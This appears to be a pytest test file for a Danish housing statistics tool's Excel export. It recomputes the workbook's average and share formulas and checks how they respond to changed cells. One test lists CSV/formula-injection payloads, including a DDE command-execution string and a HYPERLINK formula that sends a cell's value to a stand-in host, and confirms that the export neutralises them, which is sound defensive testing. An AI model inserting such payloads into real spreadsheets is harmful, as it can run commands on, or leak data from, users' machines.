"""The workbook is computed anew by a small reader of its own: a changed row changes the average as it must."""

import dataclasses
import io
import itertools
import operator
import re
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from statistics import fmean, median
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from keyfigures import departments, exports, views
from keyfigures.compare import AverageKind
from keyfigures.exports.workbook import NumberLook
from keyfigures.figures import Chart, ChartKind, Context, DepartmentChart, DepartmentView, Selection
from keyfigures.figures.sums import Sum, SumKind
from keyfigures.language import Language

SHARE, RENTED = "public_housing_share_pct", "rented_share_pct"
FIGURES, SUMS, ROWS = "Tal", "Regnestykker", "Rækker"
BASE = Selection(
    chart=ChartKind.RANKING,
    municipality="330",
    indicator=SHARE,
    group="deck2011",
    year=2010,
    from_year=2009,
    average=AverageKind.WEIGHTED,
    include_own=True,
    language="da",
)
CASES = {
    **{f"ranking by {average}": dataclasses.replace(BASE, average=average) for average in AverageKind},
    **{
        kind.value: dataclasses.replace(BASE, chart=kind, year=2023, group="region")
        for kind in (ChartKind.OVERVIEW, ChartKind.DEVELOPMENT, ChartKind.MULTIPLES, ChartKind.TILE_MAP)
    },
    "shares": dataclasses.replace(BASE, chart=ChartKind.DEVELOPMENT, indicator=RENTED, year=2020),
    "two years": dataclasses.replace(
        BASE, chart=ChartKind.TWO_YEARS, municipality="201", group="region", year=2023, from_year=2017
    ),
    "reconcile": dataclasses.replace(BASE, chart=ChartKind.RECONCILE, year=2009),
    "English": dataclasses.replace(BASE, group="country", year=2023, language="en", include_own=False),
    "nothing to average": dataclasses.replace(BASE, municipality="101", average=AverageKind.PUBLISHED),
}
each_case = pytest.mark.parametrize("name", sorted(CASES))

REFERENCE = re.compile(r"(?:'([^']+)'!)?\$?([A-Z]+)\$?(\d+)(?::\$?([A-Z]+)\$?(\d+))?")
FUNCTION = re.compile(r"(SUM|AVERAGE|MEDIAN)\(([^()]+)\)")
FUNCTIONS: dict[str, Callable[[list[float]], float]] = {"SUM": sum, "AVERAGE": fmean, "MEDIAN": median}
SIGNS: dict[str, Callable[[float, float], float]] = {"*": operator.mul, "/": operator.truediv, "-": operator.sub}
Place = tuple[str, str]


class Reader:
    """Computes the formulas of a workbook: sums, averages, medians, and + - * / between cells."""

    def __init__(self, content: bytes) -> None:
        self.book: Workbook = openpyxl.load_workbook(io.BytesIO(content))
        self.cached: Workbook = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
        self.known: dict[Place, float | None] = {}

    def formulas(self) -> Iterator[Place]:
        """Yield the sheet and cell of every formula."""
        for sheet in self.book.worksheets:
            for cell in itertools.chain.from_iterable(sheet.iter_rows()):
                if cell.data_type == "f":
                    yield sheet.title, cell.coordinate

    def shown(self, place: Place) -> float:
        """Return the number written beside a formula."""
        found = self.cached[place[0]][place[1]].value
        assert isinstance(found, int | float)
        return found

    def change(self, place: Place, value: float) -> None:
        """Change a cell; everything is computed again."""
        self.book[place[0]][place[1]].value = value
        self.known.clear()

    def value(self, place: Place) -> float | None:
        """Return what a cell is worth today."""
        if place not in self.known:
            content = self.book[place[0]][place[1]].value
            is_formula = isinstance(content, str) and content.startswith("=")
            self.known[place] = self._computed(place[0], content[1:]) if is_formula else content
        return self.known[place]

    def _computed(self, home: str, text: str) -> float:
        text = FUNCTION.sub(lambda found: repr(FUNCTIONS[found[1]](self._range(home, found[2]))), text)
        return self._arithmetic(REFERENCE.sub(lambda found: repr(self._one(home, found)), text))

    def _one(self, home: str, found: re.Match[str]) -> float:
        value = self.value((found[1] or home, f"{found[2]}{found[3]}"))
        assert isinstance(value, int | float)
        return value

    def _range(self, home: str, text: str) -> list[float]:
        found = REFERENCE.fullmatch(text)
        assert found is not None
        column, first, last = found[2], int(found[3]), int(found[5] or found[3])
        assert found[4] in (None, column)
        values = (self.value((found[1] or home, f"{column}{line}")) for line in range(first, last + 1))
        return [value for value in values if value is not None]

    def _arithmetic(self, text: str) -> float:
        """Compute 'a op b op c' from the left, where * and / stand with their like and - alone."""
        first, *rest = re.split(r"((?<=[\d.])[-*/])", text)
        worth = float(first)
        for sign, number in zip(rest[::2], rest[1::2], strict=True):
            worth = SIGNS[sign](worth, float(number))
        return worth


def made(database: Path, name: str) -> tuple[Chart, Context]:
    """Return the chart of a case and its context."""
    return views.chart(database, CASES[name]), views.context(CASES[name])


@cache
def written(database: Path, name: str) -> bytes:
    """Return the workbook of a case, made once."""
    return exports.workbook(*made(database, name))


def read(database: Path, name: str) -> tuple[Chart, Reader]:
    """Return the chart of a case and its workbook, open, to be changed."""
    return made(database, name)[0], Reader(written(database, name))


@cache
def seen(database: Path, name: str) -> tuple[Chart, Reader]:
    """Return the chart of a case and its workbook, open, to be read only."""
    return read(database, name)


def line_of(chart: Chart, shown: Sum) -> int:
    """Return the line of a sum in the sheet of sums, as a spreadsheet counts."""
    return chart.sums.index(shown) + 2


def lines_of(reader: Reader, shown: Sum) -> dict[str, int]:
    """Return the lines of a sum's rows in the sheet of rows, by whom they are about."""
    found = reader.book[ROWS].iter_rows(min_row=2)
    return {row[1].value: row[0].row for row in found if row[0].value == shown.label}


def mean_of(chart: Chart) -> Sum:
    """Return the one average of a ranking."""
    return chart.sums[1]


@each_case
def test_what_is_computed_is_what_is_written_beside_it(database: Path, name: str) -> None:
    chart, reader = seen(database, name)
    places = list(reader.formulas())
    assert bool(places) == any(each.value is not None for each in chart.sums)
    for place in places:
        assert reader.value(place) == pytest.approx(reader.shown(place), abs=1e-9)


@each_case
def test_every_result_is_a_formula_with_the_figure_beside_it(database: Path, name: str) -> None:
    chart, reader = seen(database, name)
    sheet = reader.book.worksheets[1].title
    for shown in chart.sums:
        place = (sheet, f"B{line_of(chart, shown)}")
        if shown.value is None:
            assert reader.book[sheet][place[1]].value is None
        else:
            assert reader.book[sheet][place[1]].data_type == "f"
            assert reader.shown(place) == pytest.approx(shown.value, rel=1e-15)


@each_case
def test_the_table_shows_its_averages_and_shares_as_formulas(database: Path, name: str) -> None:
    chart, reader = seen(database, name)
    title = reader.book.worksheets[0].title
    cells = {cell for each in chart.sums if each.value is not None for cell in each.cells}
    for row, column in cells:
        cell = reader.book[title].cell(row + 2, column + 1)
        assert cell.data_type == "f"
        assert reader.shown((title, cell.coordinate)) == pytest.approx(chart.table.rows[row][column], rel=1e-15)


def test_a_changed_share_moves_the_weighted_average_by_its_weight(database: Path) -> None:
    """Slagelse weighs 35,032 of 149,165 dwellings: 10 percentage points more there are 2.3485 on the average."""
    chart, reader = read(database, "ranking by weighted")
    mean, own, difference = mean_of(chart), chart.sums[0], chart.sums[2]
    before = {each.id: reader.value((SUMS, f"B{line_of(chart, each)}")) or 0 for each in chart.sums}
    reader.change((ROWS, f"E{lines_of(reader, own)['Slagelse']}"), 34.6)
    after = {each.id: reader.value((SUMS, f"B{line_of(chart, each)}")) for each in chart.sums}
    moved = 10 * 35_032 / 149_165
    assert after[own.id] == pytest.approx(34.6)
    assert after[mean.id] == pytest.approx(before[mean.id] + moved)
    assert after[difference.id] == pytest.approx(before[difference.id] + 10 - moved)
    # The table follows: the own figure, and everybody's difference from the average.
    assert reader.value((FIGURES, "D2")) == pytest.approx(34.6)
    assert reader.value((FIGURES, "E2")) == pytest.approx(34.6 - before[mean.id] - moved)
    assert reader.value((FIGURES, "E3")) == pytest.approx(20.2 - before[mean.id] - moved)


def test_a_changed_weight_moves_the_weighted_average(database: Path) -> None:
    chart, reader = read(database, "ranking by weighted")
    mean = mean_of(chart)
    reader.change((ROWS, f"D{lines_of(reader, mean)['Slagelse']}"), 0)
    rest = [(row.value or 0, row.denominator or 0) for row in mean.counted if row.label != "Slagelse"]
    expected = sum(value * weight for value, weight in rest) / sum(weight for _, weight in rest)
    assert reader.value((SUMS, f"B{line_of(chart, mean)}")) == pytest.approx(expected)


@pytest.mark.parametrize(("average", "expected"), [("simple", 18.25 + 10 / 6), ("median", 17.4)])
def test_a_changed_figure_moves_a_simple_average_and_not_a_median_of_others(
    database: Path, average: str, expected: float
) -> None:
    """24.6 becomes 34.6: a sixth of 10 more on the mean; the middle two, 15.8 and 19.0, stay."""
    chart, reader = read(database, f"ranking by {average}")
    reader.change((ROWS, f"E{lines_of(reader, chart.sums[0])['Slagelse']}"), 34.6)
    assert reader.value((SUMS, f"B{line_of(chart, mean_of(chart))}")) == pytest.approx(expected)


def test_a_changed_numerator_moves_share_and_average(database: Path) -> None:
    """Numerator over denominator: the own share and the average of all follow one number."""
    chart, reader = read(database, "shares")
    own = next(each for each in chart.sums if each.label.startswith("Slagelse, 2020"))
    mean = next(each for each in chart.sums if "gennemsnit, 2020" in each.label and each.kind is SumKind.RATIO)
    (row,) = own.rows
    reader.change((ROWS, f"C{lines_of(reader, own)['Slagelse']}"), (row.numerator or 0) + 1000)
    top = sum(each.numerator or 0 for each in mean.counted) + 1000
    base = sum(each.denominator or 0 for each in mean.counted)
    assert reader.value((SUMS, f"B{line_of(chart, own)}")) == pytest.approx(
        100 * ((row.numerator or 0) + 1000) / (row.denominator or 1)
    )
    assert reader.value((SUMS, f"B{line_of(chart, mean)}")) == pytest.approx(100 * top / base)
    shown = [reader.value((FIGURES, f"{'ABCDEF'[column]}{line + 2}")) for line, column in mean.cells]
    assert shown == [pytest.approx(100 * top / base)] * 6


def test_who_is_left_out_stands_outside_every_range(database: Path) -> None:
    """Of the country only some have a figure; a number written for one of the others changes nothing."""
    chart, reader = read(database, "udvikling")
    mean = next(each for each in chart.sums if "gennemsnit, 2009" in each.label)
    lines, before = lines_of(reader, mean), reader.value((SUMS, f"B{line_of(chart, mean)}"))
    assert len(mean.left_out) == 11
    assert min(lines[row.label] for row in mean.left_out) > max(lines[row.label] for row in mean.counted)
    for row in mean.left_out:
        for column in "CDE":
            assert reader.book[ROWS][f"{column}{lines[row.label]}"].value is None
        assert reader.book[ROWS][f"F{lines[row.label]}"].value == "nej"
        assert reader.book[ROWS][f"G{lines[row.label]}"].value == row.why
        reader.change((ROWS, f"E{lines[row.label]}"), 99.0)
    assert reader.value((SUMS, f"B{line_of(chart, mean)}")) == before


def test_a_figure_is_a_number_once(database: Path) -> None:
    """The overview holds three averages of the same six: one raw number each, and formulas that point there."""
    _, reader = seen(database, "overblik")
    raw: dict[str, int] = {}
    for row in reader.book[ROWS].iter_rows(min_row=2):
        if "2009" in row[0].value and row[1].value in ("Slagelse", "Holbæk") and row[4].data_type == "n":
            raw[row[1].value] = raw.get(row[1].value, 0) + 1
    assert raw == {"Slagelse": 1, "Holbæk": 1}


@pytest.mark.parametrize("language", list(Language))
def test_the_sheets_are_those_of_the_language(database: Path, language: Language) -> None:
    view = dataclasses.replace(BASE, language=language.value)
    content = exports.workbook(views.chart(database, view), views.context(view))
    book = openpyxl.load_workbook(io.BytesIO(content))
    danish = language is Language.DA
    assert book.sheetnames == (
        ["Tal", "Regnestykker", "Rækker", "Definitioner", "Kilder", "Om tallene"]
        if danish
        else ["Figures", "Sums", "Rows", "Definitions", "Sources", "About"]
    )
    assert [sheet.freeze_panes for sheet in book.worksheets] == ["A2", "A2", "A2", None, "A2", None]
    sums = book.worksheets[1]
    assert [cell.value for cell in sums[1]][:2] == (["Regnestykke", "Resultat"] if danish else ["Sum", "Result"])
    assert sums["D3"].value == ("vægtet gennemsnit" if danish else "weighted average")
    assert (sums["E3"].value, sums["F3"].value) == (6, 0)
    assert sums["G2"].value.startswith("som kilden" if danish else "as the source")
    assert sums["H3"].value == "compare/averages.sql"
    assert book.worksheets[2].title in sums["A6"].value
    assert all(sheet.column_dimensions["A"].width > 5 for sheet in book.worksheets)


def test_numbers_are_written_with_their_decimals_and_units(database: Path) -> None:
    _, reader = seen(database, "ranking by weighted")
    sums, rows = reader.book[SUMS], reader.book[ROWS]
    assert sums["B3"].number_format == '#,##0.0" %"'
    assert sums["B4"].number_format == '+#,##0.0" pct.-point";-#,##0.0" pct.-point";#,##0.0" pct.-point"'
    assert (rows["D3"].number_format, rows["E3"].number_format) == ("#,##0", '#,##0.0" %"')
    assert (sums["C3"].value, sums["C4"].value) == ("%", "pct.-point")
    assert NumberLook(2, "kr./m²").code == '#,##0.00" kr./m²"'
    assert NumberLook(0).code == "#,##0"


def test_a_long_text_is_shown_whole(database: Path) -> None:
    """The average of six is written in about 150 characters, the column holds 110: two lines of 15 points."""
    _, reader = seen(database, "ranking by weighted")
    sums = reader.book[SUMS]
    assert sums.column_dimensions["G"].width == pytest.approx(110, abs=1)
    assert sums.row_dimensions[3].height == 30
    assert sums.row_dimensions[2].height is None


def test_definitions_and_sources_stand_in_sheets_of_their_own(database: Path) -> None:
    chart, context = made(database, "udvikling")
    book = openpyxl.load_workbook(io.BytesIO(exports.workbook(chart, context)))
    defined = [(row[0].value, row[1].value) for row in book["Definitioner"].iter_rows()]
    assert defined[0] == ("Nøgletal", context.indicator.title.da)
    assert ("Hvad tallet ikke kan sige", context.indicator.cannot_tell.da) in defined
    names = [context.meaning.definitions[id_].short_title.da for id_ in context.indicator.definitions]
    assert [name for name in names if not any(str(text).startswith(f"{name}: ") for _, text in defined)] == []
    sources = [row[0].value for row in book["Kilder"].iter_rows(min_row=2)]
    assert 1 < len(sources) == len(set(sources))
    drawn = {each.title.da for each in context.meaning.sources.values() if each.short_title.da in chart.footer}
    assert set(sources) == drawn


def test_a_chart_without_sums_has_no_sheets_for_them(database: Path) -> None:
    view = dataclasses.replace(BASE, chart=ChartKind.ROBUSTNESS, group="region", year=2023)
    book = openpyxl.load_workbook(io.BytesIO(exports.workbook(views.chart(database, view), views.context(view))))
    assert book.sheetnames == ["Tal", "Definitioner", "Kilder", "Om tallene"]


def test_a_chart_of_several_key_figures_has_no_sheet_of_definitions(database: Path) -> None:
    chart, context = made(database, "ranking by weighted")
    bare = dataclasses.replace(context, selection=dataclasses.replace(BASE, indicator=""))
    assert "Definitioner" not in Reader(exports.workbook(chart, bare)).book.sheetnames


def test_a_table_that_was_changed_since_keeps_its_own_numbers(database: Path) -> None:
    """Another order or fewer columns: no cell gets the formula of another number."""
    chart, context = made(database, "ranking by weighted")
    turned = dataclasses.replace(chart.table, rows=chart.table.rows[:0:-1])
    narrow = dataclasses.replace(
        chart.table, columns=chart.table.columns[:2], rows=tuple(row[:2] for row in chart.table.rows[:1])
    )
    for table in (turned, narrow):
        reader = Reader(exports.workbook(dataclasses.replace(chart, table=table), context))
        for sheet, cell in reader.formulas():
            assert reader.value((sheet, cell)) == pytest.approx(reader.shown((sheet, cell)), abs=1e-9)


def test_a_printed_share_that_its_counts_do_not_make_stays_a_number(database: Path) -> None:
    """2 of 99 are 2.02 and not the 2.0 that was printed: the total is of the counts, the share stays as printed."""
    chart, context = made(database, "shares")
    own = next(each for each in chart.sums if each.kind is SumKind.RATIO)
    row = dataclasses.replace(own.rows[0], numerator=2, denominator=99, value=2.0, key="", at=None)
    shown = dataclasses.replace(own, rows=(row,), value=200 / 99, cells=())
    reader = Reader(exports.workbook(dataclasses.replace(chart, sums=(shown,)), context))
    assert reader.book[ROWS]["E2"].value == 2.0
    assert reader.value((SUMS, "B2")) == pytest.approx(200 / 99)


PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_from_data_is_a_formula_in_any_sheet(database: Path, payload: str) -> None:
    chart, context = made(database, "ranking by weighted")
    sums = tuple(
        dataclasses.replace(
            each,
            label=payload,
            statement=payload,
            rounding=payload,
            rows=tuple(dataclasses.replace(row, label=payload, why=payload) for row in each.rows),
        )
        for each in chart.sums
    )
    risky = dataclasses.replace(chart, sums=sums, title=payload, notes=(payload,))
    reader = Reader(exports.workbook(risky, context))
    formulas = {reader.book[sheet][cell].value for sheet, cell in reader.formulas()}
    assert [text for text in formulas if payload in text or re.search(r"[^\w$'!:=*/.(),æ -]", text)] == []
    sheet = reader.book[ROWS]
    assert {cell.value for row in sheet.iter_rows(min_row=2) for cell in (row[0], row[1], row[6])} == {payload}
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in (row[0], row[1], row[6])} == {"s"}
    assert [cell for each in reader.book.worksheets for row in each.iter_rows() for cell in row if cell.hyperlink] == []


def view_of(database: Path, indicator: str, kind: DepartmentChart, **changes: Any) -> DepartmentView:
    """Return the choice of an invented organisation."""
    own = next(each for each in departments.departments(database).values() if each.is_demo)
    return DepartmentView(
        **{
            "chart": kind,
            "municipality": own.municipality_code,
            "organisation": own.organisation_id,
            "dwelling_type": "all",
            "department": "",
            "chosen": (),
            "indicator": indicator,
            "second": "rent_kr_m2",
            "year": 2023,
            "from_year": 2019,
            "k": 5,
            "weights": "",
            "language": "da",
            **changes,
        }
    )


@pytest.mark.parametrize("kind", [DepartmentChart.ORGANISATION, DepartmentChart.SCATTER])
@pytest.mark.parametrize("language", ["da", "en"])
def test_invented_figures_are_marked_on_every_sheet(demo_database: Path, kind: DepartmentChart, language: str) -> None:
    view = view_of(demo_database, "vacancy_pct", kind, language=language)
    content = exports.workbook(views.chart(demo_database, view), views.context(view))
    reader = Reader(content)
    assert all(name.startswith("DEMODATA ") and len(name) <= 31 for name in reader.book.sheetnames)
    assert {sheet.oddHeader.center.text for sheet in reader.book.worksheets} == {"DEMODATA"}
    assert reader.book.properties.keywords == "DEMODATA"
    places = list(reader.formulas())
    assert len(places) > 1
    for place in places:
        assert reader.value(place) == pytest.approx(reader.shown(place), abs=1e-9)
